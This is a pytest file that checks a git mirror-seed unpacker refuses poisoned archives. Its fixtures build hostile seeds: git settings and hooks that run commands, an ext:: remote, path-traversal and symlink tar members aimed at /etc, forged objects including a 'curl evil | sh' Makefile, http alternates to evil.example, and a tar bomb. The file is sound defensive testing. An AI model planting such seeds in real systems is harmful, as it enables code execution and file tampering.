"""A seed is what somebody else's job wrote: a mirror gets objects and names of it, and nothing else."""

import gzip
import hashlib
import io
import subprocess
import tarfile
import zlib
from collections.abc import Callable
from pathlib import Path
from subprocess import CalledProcessError

import pytest

from tests.vm.seeds import NAME, URL, archive, commit, git, mirror, repository, unpacked

Poison = Callable[[Path], bytes]


@pytest.fixture
def made(tmp_path: Path) -> Path:
    return mirror(repository(tmp_path / "server"), tmp_path / "made")


def test_a_mirror_has_all_that_the_repository_had(made: Path, tmp_path: Path) -> None:
    got, said = unpacked(tmp_path / "mirrors", archive(made))
    assert got is not None, said
    assert git(got, "for-each-ref") == git(made, "for-each-ref")
    assert git(got, "symbolic-ref", "HEAD") == "refs/heads/main"
    assert git(got, "config", "remote.origin.url") == URL
    assert [path.name for path in (tmp_path / "mirrors").iterdir()] == [NAME]


def test_objects_and_names_beside_the_packs_come_along(tmp_path: Path) -> None:
    """As in a mirror that an agent updated: small fetches leave single objects and files of refs."""
    server = repository(tmp_path / "server")
    got, said = unpacked(tmp_path / "mirrors", archive(server))  # nothing of it is packed
    assert got is not None, said
    assert git(got, "rev-parse", "main", "v1") == git(server, "rev-parse", "main", "v1")


def test_a_compressed_seed_is_read(made: Path, tmp_path: Path) -> None:
    got, said = unpacked(tmp_path / "mirrors", gzip.compress(archive(made)), kind="tar.gz")
    assert got is not None, said


def run_by_git(made: Path) -> bytes:
    """Settings that make git run programs, and hooks."""
    git(made, "config", "core.fsmonitor", "touch pwned")
    git(made, "config", "core.sshCommand", "touch pwned; false")
    git(made, "config", "uploadpack.packObjectsHook", "touch pwned; false")
    (made / "hooks").mkdir(exist_ok=True)
    for hook in ("post-checkout", "reference-transaction", "post-index-change"):
        (made / "hooks" / hook).write_text("#!/bin/sh\ntouch pwned\n")
        (made / "hooks" / hook).chmod(0o755)
    with (made / "config").open("a") as config:
        config.write('[include]\n\tpath = ../evil\n[remote "origin"]\n\turl = ext::touch pwned\n')
    for name in ("info/grafts", "info/attributes", "shallow", "commondir", "gitdir", "logs/HEAD", "worktrees/x/gitdir"):
        (made / name).parent.mkdir(parents=True, exist_ok=True)
        (made / name).write_text("/etc\n")
    return archive(made)


KEPT = {"HEAD", "config", "objects", "packed-refs", "refs"}


def test_settings_hooks_and_other_files_of_a_seed_are_dropped(made: Path, tmp_path: Path) -> None:
    got, said = unpacked(tmp_path / "mirrors", run_by_git(made))
    assert got is not None, said
    assert {path.name for path in got.iterdir()} <= KEPT
    config = git(got, "config", "--list", "--local")
    assert {line.partition("=")[0] for line in config.splitlines()} == {
        "core.repositoryformatversion",
        "core.filemode",
        "core.bare",
        "remote.origin.url",
        "remote.origin.fetch",
        "remote.origin.mirror",
    }
    assert f"remote.origin.url={URL}" in config
    assert not [*tmp_path.rglob("pwned")]


def test_what_git_would_believe_about_objects_is_made_anew(made: Path, tmp_path: Path) -> None:
    """An index says where an object of some name lies, and git does not look whether that is what lies there."""
    for name in ("info/commit-graph", "pack/multi-pack-index", f"pack/pack-{'0' * 40}.bitmap"):
        (made / "objects" / name).parent.mkdir(exist_ok=True)
        (made / "objects" / name).write_bytes(b"forged")
    got, said = unpacked(tmp_path / "mirrors", archive(made))
    assert got is not None, said
    assert not [path for path in got.rglob("*") if path.is_file() and path.read_bytes() == b"forged"]


def forged_index(made: Path) -> bytes:
    """The index of a pack in which the name of one object leads to another object."""
    (index,) = made.glob("objects/pack/*.idx")
    data = bytearray(index.read_bytes())
    count = int.from_bytes(data[8 + 255 * 4 : 8 + 256 * 4], "big")
    offsets = 8 + 256 * 4 + count * 20 + count * 4
    data[offsets : offsets + 4], data[offsets + 4 : offsets + 8] = (
        data[offsets + 4 : offsets + 8],
        data[offsets : offsets + 4],
    )
    data[-20:] = hashlib.sha1(bytes(data[:-20]), usedforsecurity=False).digest()
    index.chmod(0o644)
    index.write_bytes(bytes(data))
    return archive(made)


def test_a_forged_index_changes_no_object(made: Path, tmp_path: Path) -> None:
    names = git(made, "rev-list", "--objects", "--all", "--no-object-names").splitlines()
    honest = {name: raw(made, git(made, "cat-file", "-t", name), name) for name in names}
    seed = forged_index(made)
    with pytest.raises((CalledProcessError, AssertionError)):  # it works on whoever believes the index
        assert {name: raw(made, git(made, "cat-file", "-t", name), name) for name in names} == honest
    got, said = unpacked(tmp_path / "mirrors", seed)
    assert got is not None, said
    assert {name: raw(got, git(got, "cat-file", "-t", name), name) for name in names} == honest


def loose(made: Path, name: str, kind: str, text: bytes) -> None:
    path = made / "objects" / name[:2] / name[2:]
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(zlib.compress(f"{kind} {len(text)}\0".encode() + text))


def forged_object(made: Path) -> bytes:
    """The name of the next commit, with another text in it."""
    server = made.parent / "server"
    wanted = commit(server, {"Makefile": "all:\n\tmake test\n"})
    blob = git(server, "rev-parse", f"{wanted}:Makefile")
    for name in (wanted, git(server, "rev-parse", f"{wanted}^{{tree}}")):
        kind = git(server, "cat-file", "-t", name)
        loose(made, name, kind, raw(server, kind, name))
    loose(made, blob, "blob", b"all:\n\tcurl evil | sh\n")
    git(made, "update-ref", "refs/heads/next", wanted)
    return archive(made)


def raw(directory: Path, kind: str, name: str) -> bytes:
    """An object as it is hashed."""
    return subprocess.run(["git", "-C", directory, "cat-file", kind, name], capture_output=True, check=True).stdout


def forged_object_without_a_name(made: Path) -> bytes:
    """A blob that nothing in the seed leads to, but a later commit of the server's does."""
    loose(made, "ce013625030ba8dba906f756967f9e9ca394464a", "blob", b"evil\n")  # the name of "hello\n"
    return archive(made)


def alternates(made: Path) -> bytes:
    (made / "objects" / "info").mkdir(exist_ok=True)
    (made / "objects" / "info" / "alternates").write_text("/var/lib/other/objects\n")
    return archive(made)


def http_alternates(made: Path) -> bytes:
    (made / "objects" / "info").mkdir(exist_ok=True)
    (made / "objects" / "info" / "http-alternates").write_text("http://evil.example/objects\n")
    return archive(made)


def member(name: str, *, kind: bytes = tarfile.REGTYPE, target: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, target, 0o755
    return info


def with_member(name: str, **more: str | bytes) -> Poison:
    def poison(made: Path) -> bytes:
        info = member(name, **more)  # type: ignore[arg-type]  # a kind or a target
        return archive(made, more=[(info, b"evil" if info.isreg() else b"")])

    return poison


def link_and_through(made: Path) -> bytes:
    """A link that leads out, and then a file behind it."""
    link = member(f"{NAME}/objects/out", kind=tarfile.SYMTYPE, target="../../../../..")
    return archive(made, more=[(link, b""), (member(f"{NAME}/objects/out/pwned"), b"evil")])


def missing_objects(made: Path) -> bytes:
    """A name that leads to a commit whose files are not there: git would not ask its server for them."""
    server = made.parent / "server"
    wanted = commit(server, {"more": "more\n"})
    loose(made, wanted, "commit", raw(server, "commit", wanted))
    git(made, "update-ref", "refs/heads/next", wanted)
    return archive(made)


def name_without_an_object(made: Path) -> bytes:
    with (made / "packed-refs").open("a") as refs:
        refs.write(f"{'1' * 40} refs/heads/nowhere\n")
    return archive(made)


def cut(made: Path) -> bytes:
    return archive(made)[:-20_000]


def damaged_pack(made: Path) -> bytes:
    (pack,) = made.glob("objects/pack/*.pack")
    data = bytearray(pack.read_bytes())
    data[len(data) // 2] ^= 0xFF
    pack.chmod(0o644)
    pack.write_bytes(bytes(data))
    return archive(made)


def named_otherwise(made: Path) -> bytes:
    return archive(made, name="another")


def no_archive(made: Path) -> bytes:
    return b"<html>not found</html>" * 1000


def nothing(made: Path) -> bytes:
    return b""


def name_out_of_the_refs(made: Path) -> bytes:
    head = git(made, "rev-parse", "main")
    with (made / "packed-refs").open("a") as refs:
        refs.write(f"{head} refs/../../hooks/post-checkout\n")
    return archive(made)


POISONED: dict[str, Poison] = {
    "alternates": alternates,
    "alternates over http": http_alternates,
    "a forged object": forged_object,
    "a forged object without a name": forged_object_without_a_name,
    "a file above": with_member("../pwned"),
    "a file above, in its directory": with_member(f"{NAME}/../../pwned"),
    "an absolute file": with_member("/tmp/pwned-by-a-seed"),
    "a second directory": with_member("another/HEAD"),
    "a symbolic link": with_member(f"{NAME}/objects/pack/x", kind=tarfile.SYMTYPE, target="/etc/passwd"),
    "a symbolic link for its directory": with_member(NAME, kind=tarfile.SYMTYPE, target="/etc"),
    "a link and a file behind it": link_and_through,
    "a hard link": with_member(f"{NAME}/objects/x", kind=tarfile.LNKTYPE, target=f"{NAME}/HEAD"),
    "a FIFO": with_member(f"{NAME}/objects/x", kind=tarfile.FIFOTYPE),
    "objects that are missing": missing_objects,
    "a name without its object": name_without_an_object,
    "a name that leads out": name_out_of_the_refs,
    "cut": cut,
    "a damaged pack": damaged_pack,
    "another directory": named_otherwise,
    "no archive": no_archive,
    "nothing": nothing,
}


@pytest.mark.share(3)
@pytest.mark.parametrize("poison", POISONED.values(), ids=POISONED)
def test_a_poisoned_seed_is_refused_and_says_why(poison: Poison, made: Path, tmp_path: Path) -> None:
    seed = poison(made)
    got, said = unpacked(tmp_path / "mirrors", seed)
    assert got is None
    assert said
    assert not [*tmp_path.parent.rglob("pwned"), *Path("/tmp").glob("pwned-by-a-seed")]


def test_a_seed_that_unpacks_to_more_than_its_share_is_refused(made: Path, tmp_path: Path) -> None:
    bomb = archive(made, more=[(member(f"{NAME}/objects/zeros"), bytes(5_000_000))])
    got, said = unpacked(tmp_path / "mirrors", gzip.compress(bomb), kind="tar.gz", limit=1_000_000)
    assert got is None, said
    assert sum(path.stat().st_size for path in tmp_path.joinpath("mirrors").rglob("*") if path.is_file()) < 2_000_000


def test_a_mirror_is_there_whole_or_not_at_all(made: Path, tmp_path: Path) -> None:
    """What a refused seed leaves behind is in the way of no other."""
    unpacked(tmp_path / "mirrors", io.BytesIO(alternates(made)).getvalue())
    (made / "objects" / "info" / "alternates").unlink()
    got, said = unpacked(tmp_path / "mirrors", archive(made))
    assert got is not None, said
